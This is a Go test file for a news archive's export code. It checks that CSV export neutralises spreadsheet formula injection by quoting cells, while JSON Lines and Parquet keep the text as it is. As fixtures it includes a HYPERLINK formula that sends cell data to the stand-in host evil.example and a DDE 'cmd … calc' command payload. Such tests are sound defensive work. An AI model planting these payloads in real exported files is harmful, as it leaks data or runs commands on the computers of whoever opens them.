package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/parquet-go/parquet-go"

	"newsarc/store"
	"newsarc/store/bleve"
)

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"", ""},
		{"plain", "plain"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{"数据主权", "数据主权"},
		{"\nx", "\nx"},
	}
	for _, tt := range tests {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestCSVFormulaInjection exports articles whose fields begin with each
// character a spreadsheet takes as the start of a formula: CSV read back
// with encoding/csv has them quoted, JSON Lines and Parquet have them as
// they are.
func TestCSVFormulaInjection(t *testing.T) {
	starts := map[string]string{"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "cr": "\r"}
	st, err := bleve.Open(context.Background(), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	want := map[string]*store.Article{} // by ID
	for name, c := range starts {
		title := c + `HYPERLINK("https://evil.example/?"&A1,"click")`
		a := &store.Article{ID: "formula-" + name, URL: "https://news.example/" + name,
			CanonicalURL: "https://news.example/" + name, Site: "s", Title: title, Language: "en",
			Authors: []string{c + "cmd|' /C calc'!A0"}, Description: c + "2+3", Text: c + "1+1",
			ContentHash: store.HashText(c + "1+1")}
		want[a.ID] = a
		if _, err := st.Put(context.Background(), a); err != nil {
			t.Fatal(err)
		}
	}

	t.Run("csv", func(t *testing.T) {
		out, _ := runExport(t, st, store.Query{}, CSV, Options{})
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		col := func(name string) int { return slices.Index(CSVColumns, name) }
		if len(rows) != len(starts)+1 {
			t.Fatalf("%d rows, want %d", len(rows), len(starts)+1)
		}
		for _, row := range rows[1:] {
			a := want[row[col("id")]]
			if a == nil {
				t.Fatalf("unknown row %q", row)
			}
			for _, c := range []struct{ name, orig string }{{"title", a.Title}, {"authors", a.Authors[0]},
				{"description", a.Description}, {"text", a.Text}} {
				got := row[col(c.name)]
				// encoding/csv drops a carriage return from a cell when
				// it writes CRLF line ends: the quote still comes first.
				orig := strings.ReplaceAll(c.orig, "\r", "")
				if got != "'"+orig {
					t.Errorf("%s %s = %q, want %q", a.ID, c.name, got, "'"+orig)
				}
			}
		}
	})

	t.Run("jsonl", func(t *testing.T) {
		out, _ := runExport(t, st, store.Query{}, JSONL, Options{})
		dec := json.NewDecoder(bytes.NewReader(out))
		n := 0
		for dec.More() {
			var r Record
			if err := dec.Decode(&r); err != nil {
				t.Fatal(err)
			}
			n++
			a := want[r.ID]
			if r.Title != a.Title || r.Authors[0] != a.Authors[0] || r.Description != a.Description || r.Text != a.Text {
				t.Errorf("%s: JSON Lines changed the text: %+v", r.ID, r)
			}
		}
		if n != len(starts) {
			t.Errorf("%d records, want %d", n, len(starts))
		}
	})

	t.Run("parquet", func(t *testing.T) {
		out, _ := runExport(t, st, store.Query{}, Parquet, Options{})
		rows, err := parquet.Read[parquetRecord](bytes.NewReader(out), int64(len(out)))
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != len(starts) {
			t.Fatalf("%d rows, want %d", len(rows), len(starts))
		}
		for _, r := range rows {
			a := want[r.ID]
			if r.Title != a.Title || r.Authors[0] != a.Authors[0] || r.Text != a.Text {
				t.Errorf("%s: Parquet changed the text: %q %q %q", r.ID, r.Title, r.Authors, r.Text)
			}
		}
	})
}
